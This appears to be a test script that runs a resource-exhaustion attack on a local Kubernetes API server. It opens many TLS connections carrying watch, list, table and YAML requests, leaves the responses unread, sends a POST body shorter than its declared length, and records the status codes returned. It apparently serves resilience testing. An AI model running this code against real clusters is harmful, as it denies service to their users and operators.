// Asks the API for much and reads nothing of it, for some seconds; sends bodies that never end. Says how each was answered.
import { connect } from 'node:tls';

const { port, token, holdMs, count } = JSON.parse(process.env.ATTACK);
const maps = '/api/v1/namespaces/default/configmaps';
const head = (line, more = '') =>
  `${line} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\n${more}\r\n`;
const table = 'Accept: application/json;as=Table;v=v1;g=meta.k8s.io\r\n';
const kinds = {
  watches: head(`GET ${maps}?watch=1`),
  'watches with a mark': head(`GET ${maps}?watch=1&sendInitialEvents=true&resourceVersionMatch=NotOlderThan`),
  lists: head(`GET ${maps}`),
  tables: head(`GET ${maps}?includeObject=Object`, table),
  yamls: head(`GET ${maps}`, 'Accept: application/yaml\r\n'),
  'slow bodies': `${head('POST /api/v1/namespaces/default/events', 'Content-Type: application/json\r\nContent-Length: 3000000\r\n')}{"a":"${'x'.repeat(1_000_000)}`,
  'no request': 'GET / HTT',
};

const statuses = {};
const sockets = [];

function open(kind, text) {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false }, () => {
      socket.write(text);
      resolve();
    });
    sockets.push(socket);
    socket.on('error', () => resolve());
    socket.once('data', (chunk) => {
      // The status line, and no more is read from now on.
      socket.pause();
      const status = String(chunk).split(' ')[1];
      statuses[kind][status] = (statuses[kind][status] ?? 0) + 1;
    });
  });
}

for (const [kind, text] of Object.entries(kinds)) {
  statuses[kind] = {};
  const many = kind === 'watches' ? count : count / 4;
  // Not all at once: a flood of connections would be another attack.
  for (let index = 0; index < many; index++) await open(kind, text);
}
await new Promise((resolve) => setTimeout(resolve, holdMs));
for (const socket of sockets) socket.destroy();
console.log(JSON.stringify(statuses));
process.exit(0);
